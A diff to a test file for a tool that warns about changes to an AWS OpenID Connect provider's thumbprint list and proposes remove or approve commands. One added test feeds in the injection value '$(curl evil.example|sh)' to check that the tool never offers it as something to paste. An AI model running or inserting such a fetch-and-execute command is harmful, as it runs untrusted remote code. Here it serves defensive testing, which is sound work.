@@ -22,7 +22,8 @@ describe('a change of someone else', () => {
       severity: 'warning',
       message: `Someone else (Terraform, going by the tags) changed the list: added ${A} and removed ${B}.`,
       action:
-        'Make sure that you know who did it (CloudTrail knows: UpdateOpenIDConnectProviderThumbprint): whoever has the key of an added certificate can impersonate the issuer.',
+        'Make sure that you know who did it (CloudTrail knows: UpdateOpenIDConnectProviderThumbprint): whoever has the key of an added certificate can impersonate the issuer. To take out again what was added, and keep it out:',
+      commands: [{ kind: 'remove', thumbprint: A }],
     });
   });
 
@@ -67,6 +68,16 @@ describe('writing that was stopped', () => {
       ].join('\n'),
       commands: [{ kind: 'approve', thumbprint: A }],
     });
+  });
+
+  test('offers nothing to paste that is no thumbprint', () => {
+    const odd = '$(curl evil.example|sh)';
+    const { action, commands } = writingStopped(stopped, { ...context(TERRAFORM), wanted: [odd, A] });
+    expect(action.split('\n')[1]).toBe(`thumbprint_list = ["${A}"]`);
+    expect(commands).toEqual([{ kind: 'approve', thumbprint: A }]);
+    const alone = writingStopped(stopped, { ...context(), wanted: [odd] });
+    expect(alone.action).toMatch(/this one: "\$\(curl evil\.example\|sh\)"\. Then .* any approval or restore does\.$/);
+    expect(alone.commands).toEqual([]);
   });
 
   test('does without a name where the tags betray nobody', () => {
